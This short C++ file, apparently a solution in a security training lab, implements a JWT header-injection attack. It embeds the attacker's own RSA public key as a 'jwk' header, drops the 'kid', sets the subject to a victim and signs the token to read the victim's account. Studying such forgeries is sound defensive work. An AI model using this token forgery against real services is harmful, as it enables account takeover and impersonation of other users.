// Unusual: writes the key by hand, with what RFC 7518 §6.3.1 asks for and no more, and drops the kid.
#include "jwk_header.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  const auto jwk = evidence.own_key.public_jwk();
  auto token = evidence.own_token;
  token.header.set("jwk", {{"kty", "RSA"}, {"n", jwk.at("n")}, {"e", jwk.at("e")}});
  token.header.erase("kid");
  token.claims.set("sub", evidence.victim);
  return {.account = evidence.show_me(sign_rs256(token, evidence.own_key)).body};
}

}  // namespace lesson
